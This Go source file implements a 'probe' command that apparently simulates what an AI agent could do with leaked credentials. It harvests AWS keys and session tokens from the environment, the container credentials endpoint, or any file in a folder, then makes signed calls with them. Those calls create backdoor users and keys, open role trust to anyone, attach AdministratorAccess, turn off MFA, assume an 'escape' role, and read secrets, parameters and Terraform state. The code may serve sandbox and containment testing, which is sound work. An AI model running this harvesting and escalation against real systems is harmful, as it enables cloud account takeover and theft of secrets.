//go:build unix

package cli

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
)

// probeMain is `probe [-loot DIR] CALL...`: what an agent does with credentials. It
// makes the calls with those of its environment or its endpoint; with -loot with
// all that lie about in the files of a folder, whatever wrote them. What the calls
// give is printed, so credentials in it are loot in turn.
func probeMain(args []string) int {
	var found []aws.Credentials
	if len(args) > 1 && args[0] == "-loot" {
		found, args = lootIn(args[1]), args[2:]
	} else {
		found = ownCredentials()
	}
	fmt.Printf("probe: %d credentials\n", len(found))
	for _, c := range found {
		for _, name := range args {
			fmt.Printf("probe: %s as %s: %s\n", name, c.AccessKeyID, probeOnce(c, name))
		}
	}
	return 0
}

// probeCall is a request as it is sent: a form, or the JSON of a target, or an
// object of S3.
type probeCall struct{ service, target, body, path string }

// probeCalls are the calls of a probe. All but whoami and list want more than
// reading.
func probeCalls(name string) probeCall {
	form := func(service, version, text string) probeCall {
		return probeCall{service: service, body: text + "&Version=" + version}
	}
	const iam, sts, roles = "2010-05-08", "2011-06-15", "role/allow-full-access-from-other-accounts"
	if account, session, ok := strings.Cut(strings.TrimPrefix(name, "assume:"), ":"); ok && strings.HasPrefix(name, "assume:") {
		return form("sts", sts, "Action=AssumeRole&RoleArn="+url.QueryEscape("arn:aws:iam::"+account+":"+roles)+"&RoleSessionName="+url.QueryEscape(session))
	}
	return map[string]probeCall{
		"whoami":           form("sts", sts, "Action=GetCallerIdentity"),
		"escape":           form("sts", sts, "Action=AssumeRole&RoleArn="+url.QueryEscape("arn:aws:iam::345678901234:role/trusting")+"&RoleSessionName=escaped"),
		"session-token":    form("sts", sts, "Action=GetSessionToken"),
		"federation-token": form("sts", sts, "Action=GetFederationToken&Name=gruntwork"),
		"list":             form("iam", iam, "Action=ListUsers"),
		"create-user":      form("iam", iam, "Action=CreateUser&UserName=mallory-"+rand.Text()),
		"create-key":       form("iam", iam, "Action=CreateAccessKey&UserName=mallory"),
		"create-role":      form("iam", iam, "Action=CreateRole&RoleName=mallory&AssumeRolePolicyDocument="+url.QueryEscape(anyoneTrusts)),
		"open-role":        form("iam", iam, "Action=UpdateAssumeRolePolicy&RoleName=allow-full-access-from-other-accounts&PolicyDocument="+url.QueryEscape(anyoneTrusts)),
		"put-policy":       form("iam", iam, "Action=PutRolePolicy&RoleName=allow-full-access-from-other-accounts&PolicyName=x&PolicyDocument="+url.QueryEscape(allAllowed)),
		"attach-policy":    form("iam", iam, "Action=AttachRolePolicy&RoleName=allow-full-access-from-other-accounts&PolicyArn="+url.QueryEscape("arn:aws:iam::aws:policy/AdministratorAccess")),
		"own-mfa-off":      form("iam", iam, "Action=DeactivateMFADevice&UserName=gruntwork&SerialNumber="+url.QueryEscape("arn:aws:iam::123456789012:mfa/gruntwork")),
		"run-as-role":      {service: "ecs", target: "AmazonEC2ContainerServiceV20141113.RunTask", body: `{"taskDefinition":"t","overrides":{"taskRoleArn":"arn:aws:iam::345678901234:role/allow-full-access-from-other-accounts"}}`},
		"secret":           {service: "secretsmanager", target: "secretsmanager.GetSecretValue", body: `{"SecretId":"db"}`},
		"parameter":        {service: "ssm", target: "AmazonSSM.GetParameter", body: `{"Name":"/db/password"}`},
		"decrypt":          {service: "kms", target: "TrentService.Decrypt", body: `{"CiphertextBlob":"eA=="}`},
		"item":             {service: "dynamodb", target: "DynamoDB_20120810.GetItem", body: `{"TableName":"orders","Key":{"LockID":{"S":"k"}}}`},
		"write-item":       {service: "dynamodb", target: "DynamoDB_20120810.PutItem", body: `{"TableName":"orders","Item":{"LockID":{"S":"k"}}}`},
		"state":            {service: "s3", path: "/acme-dev-tfstate/vpc/terraform.tfstate"},
		"write-state":      {service: "s3", path: "/acme-dev-tfstate/vpc/terraform.tfstate", body: "{}"},
	}[name]
}

func (p probeCall) request(ctx context.Context) (*http.Request, error) {
	method := http.MethodPost
	switch {
	case p.service == "s3" && p.body == "":
		method = http.MethodGet
	case p.service == "s3":
		method = http.MethodPut
	}
	r, err := http.NewRequestWithContext(ctx, method, os.Getenv("AWS_ENDPOINT_URL")+p.path, strings.NewReader(p.body))
	if err != nil {
		return nil, err
	}
	switch {
	case p.target != "":
		r.Header.Set("X-Amz-Target", p.target)
		r.Header.Set("Content-Type", "application/x-amz-json-1.1")
	case p.service != "s3":
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	return r, nil
}

func probeOnce(c aws.Credentials, name string) string {
	ctx, stop := interruptible()
	defer stop()
	p := probeCalls(name)
	r, err := p.request(ctx)
	if err != nil {
		return err.Error()
	}
	sum := sha256.Sum256([]byte(p.body))
	hash := hex.EncodeToString(sum[:])
	r.Header.Set("X-Amz-Content-Sha256", hash)
	if err := v4.NewSigner().SignHTTP(ctx, c, r, hash, p.service, "us-west-2", clock()); err != nil {
		return err.Error()
	}
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		return err.Error()
	}
	defer answer.Body.Close()
	text, _ := io.ReadAll(answer.Body)
	return fmt.Sprintf("%d %s", answer.StatusCode, text)
}

// ownCredentials are those that an SDK would find in this environment.
func ownCredentials() []aws.Credentials {
	if found := lootOf([]byte(strings.Join(os.Environ(), "\n"))); len(found) > 0 {
		return found
	}
	c := sdkClient{url: os.Getenv("AWS_CONTAINER_CREDENTIALS_FULL_URI")}
	if c.url != "" {
		text, err := os.ReadFile(os.Getenv("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE"))
		if err != nil {
			fmt.Println(err)
		}
		status, body, err := c.do(http.MethodGet, c.url, "Authorization", string(text))
		if err != nil {
			fmt.Println(err)
		}
		fmt.Println(told(status, body))
		return lootOf([]byte(body))
	}
	return nil
}

var (
	lootID     = regexp.MustCompile(`\b(?:AKIA|ASIA)[A-Z0-9]{16}\b`)
	lootSecret = regexp.MustCompile(`(?i)(?:secret_?access_?key)["'\s=:>]+([A-Za-z0-9/+=_-]{20,})`)
	lootToken  = regexp.MustCompile(`(?i)(?:session_?token|"token)["'\s=:>]+([A-Za-z0-9/+=_-]{20,})`)
)

// lootOf finds credentials in any text: an environment, JSON, XML or memory. An id
// is taken with each secret and token that stand near it.
func lootOf(text []byte) (found []aws.Credentials) {
	const near = 3000
	seen := map[string]bool{}
	for _, at := range lootID.FindAllIndex(text, -1) {
		around := text[max(0, at[0]-near):min(len(text), at[1]+near)]
		id := string(text[at[0]:at[1]])
		tokens := append(lootToken.FindAllSubmatch(around, -1), [][]byte{nil, nil})
		for _, secret := range lootSecret.FindAllSubmatch(around, -1) {
			for _, token := range tokens {
				c := aws.Credentials{AccessKeyID: id, SecretAccessKey: string(secret[1]), SessionToken: string(token[1])}
				key := c.AccessKeyID + c.SecretAccessKey + c.SessionToken
				if !seen[key] && (c.SessionToken == "") == strings.HasPrefix(id, "AKIA") {
					seen[key] = true
					found = append(found, c)
				}
			}
		}
	}
	return found
}

func lootIn(dir string) (found []aws.Credentials) {
	seen := map[aws.Credentials]bool{}
	_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || d.Name() == "script" {
			return nil // what is gone by now, or no file, or its own, holds nothing
		}
		text, _ := os.ReadFile(path)
		for _, c := range lootOf(bytes.ReplaceAll(text, []byte{0}, []byte("\n"))) {
			if !seen[c] {
				seen[c] = true
				found = append(found, c)
			}
		}
		return nil
	})
	return found
}
